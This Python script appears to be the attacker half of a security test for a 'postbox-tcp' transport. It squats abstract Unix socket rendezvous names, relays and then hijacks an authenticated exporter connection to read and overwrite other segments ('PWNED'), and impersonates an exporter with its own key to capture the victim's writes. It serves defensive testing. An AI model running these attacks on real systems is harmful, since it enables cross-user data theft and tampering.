"""The attacker of test_tcp_auth.py, run as another local user.

Its source is handed to ``python3 -c``, so it needs nothing of the victim's
tree; it knows the tcp transport's wire format from docs/tcp.md.  It prints
what happened, one ``key: value`` line each, and the test decides.

  relay --job J --node N --segid S --exporter A:P
      Take the rendezvous name of segment S on node N of job J before the
      victim publishes it, answer importers with a DIRECTORY naming the
      attacker's own port, relay the handshake to the real exporter at A:P
      (its wire version read from its HELLO), then drop the importer and
      try to attach the job's published segments on that connection, read
      them and write them.
  solo --uid U --segid S --wire V
      Take the name of segment S of user U's solo job, answer with a
      DIRECTORY (version V: version 1 carried a key, the attacker's own)
      and play the exporter with the attacker's key: whatever the victim
      puts is stolen.
"""

import argparse
import os
import select
import socket
import struct
import sys
import time

MAGIC = 0x57544250
HELLO, AUTH, WELCOME, DIRECTORY = 1, 2, 3, 4
ATTACH, DETACH, PUT, GET, BARRIER, REPLY = 1, 2, 3, 4, 5, 7
AUTH_SIZE = {1: 88, 2: 104}
WELCOME_SIZE = {1: 24, 2: 32}
HEADER_SIZE = {1: 32, 2: 40}
PERM_RDWR = 0o600


def say(key, value):
    print("%s: %s" % (key, value), flush=True)


def rotl(x, b):
    return ((x << b) | (x >> (64 - b))) & 0xFFFFFFFFFFFFFFFF


def siphash24(key, data):
    k0, k1 = struct.unpack("<QQ", key)
    v = [k0 ^ 0x736F6D6570736575, k1 ^ 0x646F72616E646F6D, k0 ^ 0x6C7967656E657261,
         k1 ^ 0x7465646279746573]

    def rounds(n):
        for _ in range(n):
            v[0] = (v[0] + v[1]) & 0xFFFFFFFFFFFFFFFF
            v[1] = rotl(v[1], 13) ^ v[0]
            v[0] = rotl(v[0], 32)
            v[2] = (v[2] + v[3]) & 0xFFFFFFFFFFFFFFFF
            v[3] = rotl(v[3], 16) ^ v[2]
            v[0] = (v[0] + v[3]) & 0xFFFFFFFFFFFFFFFF
            v[3] = rotl(v[3], 21) ^ v[0]
            v[2] = (v[2] + v[1]) & 0xFFFFFFFFFFFFFFFF
            v[1] = rotl(v[1], 17) ^ v[2]
            v[2] = rotl(v[2], 32)

    tail = len(data) % 8
    padded = data[:len(data) - tail] + data[len(data) - tail:] + bytes(7 - tail) + \
        bytes([len(data) & 0xFF])
    for (m,) in struct.iter_unpack("<Q", padded):
        v[3] ^= m
        rounds(2)
        v[0] ^= m
    v[2] ^= 0xFF
    rounds(4)
    return v[0] ^ v[1] ^ v[2] ^ v[3]


def recv_exact(sock, size):
    data = b""
    while len(data) < size:
        chunk = sock.recv(size - len(data))
        if not chunk:
            raise ConnectionError("closed after %d of %d bytes" % (len(data), size))
        data += chunk
    return data


def msg_header(version, kind):
    return struct.pack("<IHH", MAGIC, version, kind)


def frame(version, kind, slot=0, tag=0, offset=0, length=0, count=0):
    header = struct.pack("<HHiIIQII", kind, 0, 0, slot, tag, offset, length, count)
    return header + bytes(HEADER_SIZE[version] - len(header))  # (no MAC: none known)


def directory(version, port, key=None):
    body = socket.inet_aton("127.0.0.1") + struct.pack("<HH", port, 1 if key else 0)
    if version == 1:
        body += key or bytes(16)
    return msg_header(version, DIRECTORY) + body


def squat(name):
    """Bind the abstract name @name before its owner does."""
    rendezvous = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    rendezvous.bind("\0" + name)
    rendezvous.listen(16)
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(16)
    return rendezvous, listener


def published_segids(job, node):
    """The segments of @node of @job published now (names anyone can list)."""
    prefix = "@postbox-tcp/%s/%d/" % (job, node)
    found = set()
    with open("/proc/net/unix") as table:
        for line in table:
            fields = line.split()
            if len(fields) >= 8 and fields[7].startswith(prefix):
                found.add(int(fields[7][len(prefix):], 16))
    return sorted(found)


def attack_connection(exp, version, job, node, squatted):
    """On the exporter connection @exp, attach what is published, read, write."""
    exp.settimeout(5)
    tag = 1
    for segid in published_segids(job, node):
        if segid == squatted:
            continue
        exp.sendall(frame(version, ATTACH, tag=tag, length=8) + struct.pack("<II", segid,
                                                                             PERM_RDWR))
        reply = recv_exact(exp, HEADER_SIZE[version])
        _, _, status, slot, _, size, _, _ = struct.unpack_from("<HHiIIQII", reply)
        tag += 1
        if status != 0:
            say("attack-attach", "refused %d" % status)
            continue
        exp.sendall(frame(version, GET, slot=slot, tag=tag, count=32))
        reply = recv_exact(exp, HEADER_SIZE[version])
        length = struct.unpack_from("<HHiIIQII", reply)[6]
        say("attack-read", repr(recv_exact(exp, length)))
        tag += 1
        exp.sendall(frame(version, PUT, slot=slot, length=5) + b"PWNED")
        exp.sendall(frame(version, BARRIER, slot=slot, tag=tag))
        reply = recv_exact(exp, HEADER_SIZE[version])
        say("attack-wrote", "status %d" % struct.unpack_from("<HHiIIQII", reply)[2])


def relay(args):
    host, port = args.exporter.rsplit(":", 1)
    port = int(port)
    probe = socket.create_connection(("127.0.0.1", port), timeout=5)
    version = struct.unpack_from("<IHH", recv_exact(probe, 24))[1]
    probe.close()
    say("wire", version)
    rendezvous, listener = squat("postbox-tcp/%s/%d/%08x" % (args.job, args.node, args.segid))
    my_port = listener.getsockname()[1]
    say("ready", my_port)
    deadline = time.monotonic() + args.seconds
    while time.monotonic() < deadline:
        ready, _, _ = select.select([rendezvous, listener], [], [], 0.5)
        if rendezvous in ready:
            conn, _ = rendezvous.accept()
            try:
                conn.send(directory(version, my_port))
                say("rendezvous", "answered")
            except OSError as err:
                say("rendezvous", "closed by the importer (%s)" % err)
            conn.close()
        if listener in ready:
            imp, _ = listener.accept()
            imp.settimeout(5)
            say("importer", "connected")
            exp = socket.create_connection(("127.0.0.1", port), timeout=5)
            try:
                imp.sendall(recv_exact(exp, 24))
                exp.sendall(recv_exact(imp, AUTH_SIZE[version]))
                answer = recv_exact(exp, WELCOME_SIZE[version])
                say("exporter-answer", struct.unpack_from("<IHH", answer)[2])
                imp.sendall(answer)
                imp.close()
                attack_connection(exp, version, args.job, args.node, args.segid)
            except (OSError, ConnectionError) as err:
                say("attack-refused", err)
            exp.close()
            return


def fake_exporter(conn, version, key):
    """Play an exporter of the solo job with @key; say what the victim puts."""
    conn.settimeout(5)
    nonce = os.urandom(16)
    conn.sendall(msg_header(version, HELLO) + nonce)
    auth = recv_exact(conn, AUTH_SIZE[version])
    auth_nonce = auth[64:80]
    if version == 1:
        mac = siphash24(key, b"postbox-tcp-welc" + auth_nonce + struct.pack("<i", 0))
        conn.sendall(msg_header(1, WELCOME) + struct.pack("<iIQ", 0, 0, mac))
    else:  # a version 2 WELCOME needs the job key: the best an impostor can do
        conn.sendall(msg_header(2, WELCOME) + struct.pack("<iIIIQ", 0, 0, 0, 0, 0))
    say("fake-welcome", "sent")
    while True:
        header = recv_exact(conn, HEADER_SIZE[version])
        kind, _, _, slot, tag, _, length, count = struct.unpack_from("<HHiIIQII", header)
        payload = recv_exact(conn, length) if length else b""
        if kind == ATTACH:
            conn.sendall(frame(version, REPLY, slot=1, tag=tag, offset=4096, count=PERM_RDWR))
        elif kind == PUT:
            say("stolen", repr(payload))
        elif kind == BARRIER:
            conn.sendall(frame(version, REPLY, slot=slot, tag=tag))
        elif kind == GET:
            conn.sendall(frame(version, REPLY, slot=slot, tag=tag, length=count) + bytes(count))


def solo(args):
    key = os.urandom(16)
    rendezvous, listener = squat("postbox-tcp/solo-%d/0/%08x" % (args.uid, args.segid))
    say("ready", listener.getsockname()[1])
    deadline = time.monotonic() + args.seconds
    while time.monotonic() < deadline:
        ready, _, _ = select.select([rendezvous, listener], [], [], 0.5)
        if rendezvous in ready:
            conn, _ = rendezvous.accept()
            try:
                conn.send(directory(args.wire, listener.getsockname()[1], key))
                say("rendezvous", "answered")
            except OSError as err:
                say("rendezvous", "closed by the importer (%s)" % err)
            conn.close()
        if listener in ready:
            conn, _ = listener.accept()
            say("importer", "connected")
            try:
                fake_exporter(conn, args.wire, key)
            except (OSError, ConnectionError) as err:
                say("fake-exporter-end", err)
            conn.close()


def main():
    parser = argparse.ArgumentParser()
    sub = parser.add_subparsers(dest="mode", required=True)
    one = sub.add_parser("relay")
    one.add_argument("--job", required=True)
    one.add_argument("--node", type=int, required=True)
    one.add_argument("--segid", type=lambda text: int(text, 0), required=True)
    one.add_argument("--exporter", required=True)
    one.add_argument("--seconds", type=float, default=30)
    two = sub.add_parser("solo")
    two.add_argument("--uid", type=int, required=True)
    two.add_argument("--segid", type=lambda text: int(text, 0), required=True)
    two.add_argument("--wire", type=int, choices=(1, 2), required=True)
    two.add_argument("--seconds", type=float, default=30)
    args = parser.parse_args()
    relay(args) if args.mode == "relay" else solo(args)


if __name__ == "__main__":
    sys.exit(main())
